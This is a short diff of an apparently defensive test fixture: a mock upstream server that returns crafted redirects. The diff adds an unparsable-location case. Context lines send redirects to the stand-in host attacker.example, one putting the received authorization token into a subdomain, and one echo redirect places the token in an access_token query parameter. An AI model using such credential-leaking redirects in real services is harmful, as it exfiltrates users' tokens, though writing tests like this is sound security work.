@@ -66,6 +66,7 @@ export class Upstream {
     if (req.method === 'POST' && url === '/' && req.headers['x-amz-target'] !== undefined) return this.aws(req, res, body);
     if (url.startsWith('/redirect-out/echo')) return this.json(res, 302, {}, { location: `https://${String(req.headers.authorization).replace(/^token /, '')}.attacker.example/steal` });
     if (url.startsWith('/redirect-out')) return this.json(res, 302, {}, { location: 'https://attacker.example/steal' });
+    if (url.startsWith('/redirect-in/unparsable')) return this.json(res, 302, {}, { location: 'https://[' });
     if (url.startsWith('/redirect-in')) return this.json(res, 302, {}, { location: '/repos/octo/in-target' });
     // An upstream that puts the credential it received into a redirect (e.g. `?access_token=`): it must not reach the executor.
     if (url.startsWith('/redirect-echo')) return this.json(res, 302, {}, { location: `/repos/octo/in-target?access_token=${String(req.headers.authorization).replace(/^token /, '')}` });
